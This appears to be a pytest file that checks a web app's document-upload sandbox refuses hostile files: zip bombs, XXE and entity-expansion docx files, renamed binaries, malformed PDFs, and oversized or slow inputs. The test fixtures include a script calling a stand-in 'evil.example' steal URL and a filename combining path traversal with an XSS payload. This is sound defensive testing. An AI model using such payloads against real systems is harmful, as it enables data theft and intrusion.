"""Hostile uploads: zip bombs, lying ZIPs, XML entities, renamed binaries, files that take
too long or too much memory to read. Each is refused with a plain-words message, the other
files of the same upload are indexed, what was stored before is untouched, and the server
keeps working. Every input is generated here; nothing is mocked: files are read by the real
sandbox under the real limits."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest

from tests import files
from tests.conftest import OWNER
from webapp.errors import ParseCrashed, UnsafeFile
from webapp.knowledge import formats, sandbox
from webapp.knowledge.chunking import Headings
from webapp.knowledge.formats import zipsafe

SECRET = "TOPSECRET-7f3a9c"


def ingest(kb, *paths: Path):
    return kb.ingest_files(OWNER, [(p, p.name) for p in paths])


def assert_plain(message: str, tmp_path: Path) -> None:
    """What a user sees: words, not internals."""
    assert message
    for leak in (str(tmp_path), "/", "\\", "Traceback", "site-packages", ".py", "Error"):
        assert leak not in message, f"{leak!r} in {message!r}"


def stored_texts(kb) -> list[str]:
    return kb.collection(OWNER).get(include=["documents"])["documents"]


def good_file(tmp_path: Path, name: str = "good.md") -> Path:
    p = tmp_path / name
    p.write_text("# Garden\nTomatoes need six hours of sun.", encoding="utf-8")
    return p


def assert_refused_and_nothing_lost(kb, tmp_path, before, hostile: Path, message: str):
    good = good_file(tmp_path)
    bad, ok = ingest(kb, hostile, good)
    assert bad.status == "failed", bad.message
    assert message in bad.message, bad.message
    assert_plain(bad.message, tmp_path)
    assert ok.status == "indexed"
    assert ok.chunks >= 1
    listed = sorted(d.file for d in kb.list_documents(OWNER))
    assert listed == ["before.txt", "good.md"]  # once each: nothing duplicated
    assert kb.count_chunks(OWNER) == before["chunks"] + ok.chunks
    kept = kb.chunks(OWNER, before["result"].doc_id)
    assert sorted(c.text for c in kept) == before["texts"]  # the earlier document, untouched
    return bad


@pytest.mark.slow
def test_docx_zip_bomb_is_refused_and_the_rest_of_the_upload_is_indexed(kb, tmp_path, before):
    bomb = files.write_docx_bomb(tmp_path / "bomb.docx", megabytes=220)
    assert bomb.stat().st_size < 1024 * 1024
    assert_refused_and_nothing_lost(kb, tmp_path, before, bomb, "zip bombs")


@pytest.mark.slow
def test_docx_whose_declared_sizes_lie_is_refused(kb, tmp_path, before):
    liar = files.write_docx_lying_sizes(tmp_path / "liar.docx")
    assert_refused_and_nothing_lost(
        kb, tmp_path, before, liar, "do not match the sizes and checksums"
    )


def test_docx_over_the_total_unpacked_size_is_refused(tmp_path, monkeypatch):
    """The total limit, shown with a lower limit (a real 512 MB bomb is slow to build)."""
    p = files.write_raw_docx(
        tmp_path / "big.docx",
        files.word_xml("".join(files.word_paragraph(f"Line {i} of many.") for i in range(60_000))),
    )
    monkeypatch.setattr(zipsafe, "MAX_ZIP_TOTAL", 1024 * 1024)
    with pytest.raises(UnsafeFile, match="would unpack to more than 1 MB"):
        formats.detect_kind(p, p.name)


@pytest.mark.slow
def test_billion_laughs_docx_is_refused(kb, tmp_path, before):
    lol = files.write_billion_laughs_docx(tmp_path / "laughs.docx")
    assert_refused_and_nothing_lost(kb, tmp_path, before, lol, "XML entity declarations")


@pytest.mark.slow
@pytest.mark.parametrize("where", ["document", "content types"])
def test_xxe_docx_is_refused_and_the_local_file_never_leaks(kb, tmp_path, before, where):
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    xxe = files.write_xxe_docx(
        tmp_path / "xxe.docx", secret, in_content_types=where == "content types"
    )
    bad = assert_refused_and_nothing_lost(kb, tmp_path, before, xxe, "XML entity declarations")
    assert SECRET not in bad.message
    assert not any(SECRET in text for text in stored_texts(kb))


@pytest.mark.slow
def test_a_file_over_the_time_limit_is_stopped_and_the_server_keeps_working(
    make_services, tmp_path
):
    kb = make_services(parse_timeout_s=0.5).knowledge
    slow = files.write_html_of_empty_tags(tmp_path / "slow.html", 300_000)  # seconds to parse
    bad, ok = ingest(kb, slow, good_file(tmp_path))
    assert bad.status == "failed"
    assert "took longer than 0.5 s, so it was stopped" in bad.message
    assert_plain(bad.message, tmp_path)
    assert ok.status == "indexed"
    later = tmp_path / "later.txt"
    later.write_text("The server still reads files after a timeout.", encoding="utf-8")
    [again] = ingest(kb, later)
    assert again.status == "indexed"
    assert sorted(d.file for d in kb.list_documents(OWNER)) == ["good.md", "later.txt"]


@pytest.mark.slow
def test_a_file_over_the_memory_limit_is_stopped(make_services, tmp_path):
    kb = make_services(parse_memory_mb=64).knowledge
    hungry = files.write_html_of_empty_tags(tmp_path / "hungry.html", 600_000)  # ~300 MB
    bad, ok = ingest(kb, hungry, good_file(tmp_path))
    assert bad.status == "failed"
    assert "needed more than 64 MB of memory, so it was stopped" in bad.message
    assert_plain(bad.message, tmp_path)
    assert ok.status == "indexed"  # small files still fit in 64 MB


RENAMED = {
    "program.txt": (b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56, "content is a program"),
    "picture.txt": (b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" * 4, "content is a PNG image"),
    "report.docx": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "a PDF, not a Word document"),
    "notes.md": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 56, "an old-style Office file"),
    "old.docx": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 56, "without a password"),
    "scan.pdf": (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", "a JPEG image, not a PDF"),
}


@pytest.mark.slow
@pytest.mark.parametrize("name", sorted(RENAMED))
def test_renamed_binaries_are_refused(kb, tmp_path, before, name):
    content, message = RENAMED[name]
    p = tmp_path / name
    p.write_bytes(content)
    assert_refused_and_nothing_lost(kb, tmp_path, before, p, message)


@pytest.mark.slow
def test_an_office_file_of_another_kind_named_docx_is_refused(kb, tmp_path, before):
    sheet = files.write_zip(
        tmp_path / "budget.docx",
        {
            "[Content_Types].xml": files.content_types("/xl/workbook.xml", files.XLSX_MAIN),
            "xl/workbook.xml": b"<workbook/>",
        },
    )
    assert_refused_and_nothing_lost(
        kb, tmp_path, before, sheet, "an Excel workbook, not a Word document"
    )


def test_word_documents_still_read_with_headings_and_tables(tmp_path):
    import docx

    document = docx.Document()
    document.add_heading("Harbour rules", 1)
    document.add_paragraph("Boats dock at pier nine.")
    table = document.add_table(rows=1, cols=2)
    table.cell(0, 0).text, table.cell(0, 1).text = "Pier", "Nine"
    p = tmp_path / "rules.docx"
    document.save(str(p))
    text = sandbox.parse(p, "docx", timeout_s=30, memory_mb=256).documents[0].text
    assert "# Harbour rules" in text
    assert "Pier | Nine" in text
    assert Headings(text).at(text.index("pier nine")) == "Harbour rules"


def test_a_reader_failure_is_a_plain_message(tmp_path):
    p = good_file(tmp_path, "x.txt")
    with pytest.raises(ParseCrashed) as caught:
        sandbox.extract(p, "no-such-kind", timeout_s=30, memory_mb=256)
    assert_plain(str(caught.value), tmp_path)


@pytest.mark.skipif(not Path("/proc/self/maps").exists(), reason="needs /proc")
def test_the_reader_is_a_separate_light_process(tmp_path):
    p = good_file(tmp_path, "x.txt")
    assert sandbox.parse(p, "text", timeout_s=30, memory_mb=256).documents[0].text
    [pid] = [w.proc.pid for w in sandbox._POOL._idle][-1:]
    assert pid != os.getpid()
    maps = Path(f"/proc/{pid}/maps").read_text()
    assert "torch" not in maps
    assert "chromadb" not in maps
    rss_kb = int(
        next(
            x for x in Path(f"/proc/{pid}/status").read_text().splitlines() if "VmRSS" in x
        ).split()[1]
    )
    assert rss_kb < 150 * 1024


@pytest.mark.slow
def test_a_batch_of_hostile_files_each_gets_a_message_and_the_good_ones_are_indexed(
    make_services, tmp_path
):
    """The issue's list in one upload: every bad file refused in plain words, the good ones
    (HTML with script and a remote image among them) indexed without the script or the URL."""
    kb = make_services(parse_timeout_s=20).knowledge
    pdf = files.write_pdf(tmp_path / "whole.pdf", ["The harbor opened in 1872."] * 3)
    truncated = tmp_path / "truncated.pdf"
    truncated.write_bytes(pdf.read_bytes()[: pdf.stat().st_size // 2])
    # A cross-reference table pointing at the wrong places (common after careless edits) is
    # rebuilt and read; one with no table at all is refused.
    broken_xref = tmp_path / "broken-xref.pdf"
    start = pdf.read_bytes().index(b"xref\n")
    wrong = re.sub(rb"\d{10} 00000 n", b"0000000001 00000 n", pdf.read_bytes()[start:])
    broken_xref.write_bytes(pdf.read_bytes()[:start] + wrong)
    no_xref = tmp_path / "no-xref.pdf"
    no_xref.write_bytes(pdf.read_bytes().replace(b"startxref", b"s").replace(b"xref", b"xrfe"))
    encrypted = files.write_encrypted_pdf(tmp_path / "locked.pdf", "secret plans")
    bomb = files.write_pdf_stream_bomb(tmp_path / "balloon.pdf")
    looping = files.write_looping_pdf(tmp_path / "looping.pdf")
    empty = tmp_path / "empty.txt"
    empty.write_bytes(b"")
    huge = tmp_path / "huge.txt"
    with huge.open("wb") as f:
        f.truncate(100 * 1024 * 1024)  # 100 MB (sparse: cheap to write)
    nul = tmp_path / "nul.txt"
    nul.write_bytes(b"some words\x00\x00\x00 and binary \x00 zeros" * 10)
    page = tmp_path / "page.html"
    page.write_text(
        "<html><body><h1>Lamps</h1><script>fetch('http://evil.example/steal')</script>"
        "<p>The lamp is green.</p><img src='http://evil.example/pixel.png'></body></html>",
        encoding="utf-8",
    )
    named = good_file(tmp_path, "plain.md")
    batch = [
        (truncated, truncated.name),
        (broken_xref, broken_xref.name),
        (no_xref, no_xref.name),
        (encrypted, encrypted.name),
        (bomb, bomb.name),
        (looping, looping.name),
        (empty, empty.name),
        (huge, huge.name),
        (nul, nul.name),
        (page, page.name),
        (named, "../../etc/<img src=x onerror=alert(1)>notes.md"),
    ]
    results = kb.ingest_files(OWNER, batch)
    by_name = dict(zip([name for _, name in batch], results, strict=True))
    refused = ("truncated.pdf", "no-xref.pdf", "locked.pdf", "balloon.pdf", "looping.pdf")
    refused += ("empty.txt",)
    for name in (*refused, "huge.txt", "nul.txt"):
        assert by_name[name].status == "failed", (name, by_name[name])
        assert_plain(by_name[name].message, tmp_path)
    assert "password" in by_name["locked.pdf"].message
    assert "100.0 MB; the limit is 50 MB" in by_name["huge.txt"].message
    for name, result in by_name.items():
        print(name, "->", result.describe())
    assert "overload" in by_name["balloon.pdf"].message
    assert "loop" in by_name["looping.pdf"].message
    assert by_name["broken-xref.pdf"].status == "indexed"
    assert by_name["page.html"].status == "indexed"
    odd = results[-1]
    assert odd.status == "indexed"
    assert "/" not in odd.file
    assert ".." not in odd.file
    texts = " ".join(stored_texts(kb))
    assert "harbor opened in 1872" in texts  # from the PDF whose table was rebuilt
    assert "green" in texts
    assert "evil.example" not in texts
    assert "fetch(" not in texts
    listed = {d.file for d in kb.list_documents(OWNER)}
    assert listed >= {"page.html", odd.file}
    assert "balloon.pdf" not in listed
    uploads = kb.uploads_dir.resolve()
    assert all(p.resolve().is_relative_to(uploads) for p in uploads.rglob("*"))
    assert not list((tmp_path.parent).glob("**/etc/*notes*"))
